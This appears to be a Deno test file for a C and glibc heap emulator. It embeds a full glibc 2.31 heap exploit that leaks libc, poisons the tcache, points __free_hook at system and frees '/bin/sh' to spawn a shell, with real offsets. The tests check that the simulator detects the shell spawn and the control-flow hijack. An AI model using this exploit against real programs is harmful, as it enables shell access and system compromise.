import assert from "node:assert/strict";
import { runC } from "../../src/c/program.ts";
import { ControlFlowHijack } from "../../src/malloc/hooks.ts";

/** The classic glibc 2.31 exploit in C: libc leak, tcache poisoning, __free_hook = system. */
const EXPLOIT = `#include <stdio.h>
#include <stdlib.h>
#include <string.h>
int main(void) {
    size_t *big = malloc(0x500);
    void *guard = malloc(0x20);
    free(big);
    size_t libc_base = big[0] - 0x1cebe0;   /* glibc 2.31: &main_arena.bins[0] - 16 */
    printf("libc at %p\\n", (void *)libc_base);
    size_t *a = malloc(0x68), *b = malloc(0x68);
    free(a);
    free(b);
    b[0] = libc_base + 0x1d1190;            /* tcache poisoning: b->next = &__free_hook */
    malloc(0x68);
    size_t *hook = malloc(0x68);
    *hook = libc_base + TARGET;
    char *cmd = malloc(0x20);
    strcpy(cmd, "/bin/sh");
    free(cmd);
    puts("after free");
    return 0;
}
`;

Deno.test('a C exploit on glibc 2.31 reaches system("/bin/sh") through __free_hook', () => {
  const r = runC(EXPLOIT.replace("TARGET", "0x45f00"), { glibc: "2.31" });
  assert.equal(r.state, "exited");
  assert.equal(r.stdout, "libc at 0x7ffff7de2000\nafter free\n");
  assert.deepEqual(r.events.map((e) => e.kind === "ShellSpawned" && [e.command, e.via, e.call]), [
    ["/bin/sh", "__free_hook", "free"],
  ]);
});

Deno.test("a C program's free() through a __free_hook aimed at no function is hijacked", () => {
  const r = runC(EXPLOIT.replace("TARGET", "0x41414"), { glibc: "2.31" });
  assert.equal(r.state, "hijacked");
  assert.ok(r.error instanceof ControlFlowHijack);
  assert.equal(r.error.target, 0x7ffff7de2000 + 0x41414);
  assert.equal(r.error.via, "__free_hook");
});

Deno.test("C sees glibc's hooks and functions at their libc addresses", () => {
  const r = runC(
    `#include <stdio.h>
#include <stdlib.h>
int main(void) { printf("%p %p\\n", (void *)&__free_hook, (void *)puts); return 0; }`,
    { glibc: "2.31" },
  );
  assert.equal(r.stdout, "0x7ffff7fb3190 0x7ffff7e542e0\n");
});
